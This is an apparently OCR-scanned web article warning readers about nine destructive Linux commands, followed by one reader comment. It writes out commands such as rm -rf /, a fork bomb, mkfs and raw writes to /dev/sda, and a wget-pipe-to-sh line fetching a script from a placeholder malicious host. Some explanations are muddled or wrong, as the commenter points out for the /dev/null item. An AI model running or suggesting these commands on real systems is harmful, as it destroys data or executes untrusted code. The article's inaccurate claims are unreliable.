These 9 Linux commands if executed can wreak irreparable damage to any computer

Most Linux commands are generally useful, but they are not the ones that are the subject matter of today. Here, we list down a total of 9 Linux commands that can wreak havoc to any computer that you use, and that can get you into a lot of trouble.

1. rm -rf

The command rm -rf / deletes everything, and that includes files on your hard drive and files on connected removable media devices.

2.: () {: |: &} ;:

:(){ :|: & };: is also known as Fork Bomb to people who possess accurate knowledge of it. It is a denial-of-service attack against a Linux System and continues to repeat itself until the system freezes.

3. command> / dev / sda

This Linux command writes raw data and all files on the block will be replaced with raw data, resulting in total loss of data in that block.

4. mv directory / dev / nullThis command sends all your personal files into a black hole, which pretty much means thatthey will be lost to you forever.

5. wget http: // malicious_source -O | sh

The above line downloads a script from the web and sends it to sh, which executes the contents of the script. It’s always dangerous if you are running untrusted scripts, so avoid this at all costs.

6. Mkfs.ext3 / dev / sda

This will leave the hard drive without any recoverable data, thus leaving your system into an unrecoverable stage.

7. > File

This command is used to release the file content. If the above command is executed with a typing error or ignorance as ‘> xt.conf’ will write the configuration file or any other system or configuration file.

8. ^foo^bar

Not as harmful as the rest of them, but this command is used to edit the previous run command without the need of retyping the whole command again. In the wrong situation, it can become extremely harmful if you didn’t take the risk of thoroughly checking the change in original command using ^foo^bar command.

9. Decompression Bomb

When you’re asked to open a comprised file, the contents of the file contain highly compressed data. Once the file is decompressed, hundreds of GB of data is extracted which can fill up your hard drive to bring down the performance of your system so avoid this no matter what happens.

Now that you are familiar with the latest Linux commands, you will do very well to avoid them.


  1. #4 is actually wrong. /dev/null is a file and you cannot move a directory “into” it. You cannot move a file into it either. It’s not meant to work that way. It’s used with the redirection operators to discard standard output or standard error.Please enter your comment!Please enter your name here